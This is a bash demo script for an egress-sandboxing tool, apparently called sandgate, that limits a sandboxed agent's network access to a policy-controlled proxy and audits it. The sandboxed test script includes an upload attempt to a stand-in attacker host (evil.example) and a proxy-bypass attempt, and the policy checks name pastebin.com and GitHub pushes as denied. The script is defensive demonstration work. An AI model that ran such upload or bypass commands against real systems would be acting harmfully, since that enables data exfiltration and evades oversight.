#!/usr/bin/env bash
# The main job: installs what is missing, builds, then runs a command in a sandbox whose only
# way out is sandgate's embedded proxy, against a demo API on loopback, and says what happened.
# Then shows sandgate deciding requests against the shipped example policy.
set -euo pipefail
cd "$(dirname "$0")/.."
SANDGATE_TARGETS=sandgate ./scripts/build.sh >/dev/null
sg=$(pwd)/${SANDGATE_BUILD_DIR:-build}/cli/sandgate

say() { printf '\n== %s\n' "$*"; }

work=$(mktemp -d /tmp/sandgate-demo.XXXXXX)
chmod 0755 "$work"  # the sandboxed command runs as an unprivileged uid
upstream_pid=
cleanup() {
  if [ -n "$upstream_pid" ]; then kill "$upstream_pid" 2>/dev/null || true; fi
  rm -rf "$work"
}
trap cleanup EXIT

# A demo API on 127.0.0.1 (it stands for a real service such as an LLM API).
python3 scripts/demo_upstream.py "$work/port" &
upstream_pid=$!
for _ in $(seq 100); do [ -s "$work/port" ] && break; sleep 0.05; done
port=$(cat "$work/port")

# The policy: the sandbox may call api.demo (mapped to the demo API by `resolve:`), nothing
# else. The workspace is writable by the sandbox's unprivileged user.
mkdir -m 0777 "$work/workspace"
cat >"$work/sandgate.yaml" <<YAML
policies:
  demo:
    allow:
      - host: api.demo
        ports: [80]
        cidrs: [127.0.0.0/8]   # the demo API is on loopback, which is denied unless named
tasks:
  - name: demo
    policy: demo
resolve:
  api.demo: 127.0.0.1:$port
audit:
  path: $work/audit.log
YAML

cat >"$work/agent.sh" <<'AGENT'
echo "[sandbox] 1. calling the demo API through sandgate: curl http://api.demo/v1/hello"
curl -sS http://api.demo/v1/hello
echo "[sandbox] 2. calling a host that is not on the policy: curl http://evil.example/upload"
curl -sS -o /dev/null -D - http://evil.example/upload | grep -iE '^(HTTP/|x-sandgate-reason)' || true
echo "[sandbox] 3. bypassing the proxy: curl --noproxy '*' http://127.0.0.1:$DEMO_PORT/v1/hello"
if curl -sS --max-time 5 --noproxy '*' "http://127.0.0.1:$DEMO_PORT/v1/hello"; then
  echo "[sandbox]    it worked, which it never should"
else
  echo "[sandbox]    curl failed with status $?: the sandbox has no network except the proxy"
fi
exit 0
AGENT
cp "$work/agent.sh" "$work/workspace/agent.sh"

say "Run a command in a sandbox whose only network is sandgate (task 'demo')"
echo "sandgate run --config $work/sandgate.yaml --workspace $work/workspace \\"
echo "    --report $work/report.json --env DEMO_PORT=$port -- sh agent.sh"
set +e
"$sg" run --config "$work/sandgate.yaml" --workspace "$work/workspace" \
  --report "$work/report.json" --env DEMO_PORT="$port" -- sh agent.sh
status=$?
set -e

say "What happened"
python3 - "$work/report.json" "$work/audit.log" "$status" <<'PY'
import json, sys
report = json.load(open(sys.argv[1]))
print(f"The command exited with status {sys.argv[3]} after {report['duration_seconds']:.2f}s "
      f"(sandgate run returns the command's own status).")
for e in report["by_host"]:
    what = "allowed" if e["verdict"] == "allow" else f"refused ({e['reason']})"
    print(f"  {e['host']}:{e['port']}: {e['count']} request(s) {what}, "
          f"{e['bytes_up']} bytes sent, {e['bytes_down']} bytes received")
print("  The direct connection to 127.0.0.1 never reached sandgate nor the demo API: inside "
      "the sandbox the only reachable address is the proxy.")
print(f"Every decision is one JSON line in the audit log ({sys.argv[2]}), e.g.:")
with open(sys.argv[2]) as f:
    print("  " + f.readline().strip())
PY

config=config/examples/coding-agent.yaml
say "Validate the example policy ($config)"
"$sg" policy lint "$config"
say "The agent may install npm packages:"
"$sg" policy check --config "$config" --task agent registry.npmjs.org:443 || true
say "It may not push to GitHub (only clone/fetch is allowed):"
"$sg" policy check --config "$config" --task agent --method POST \
  https://github.com/org/repo.git/git-receive-pack || true
say "Anything not on the policy is refused (default deny):"
"$sg" policy check --config "$config" --task agent pastebin.com:443 || true
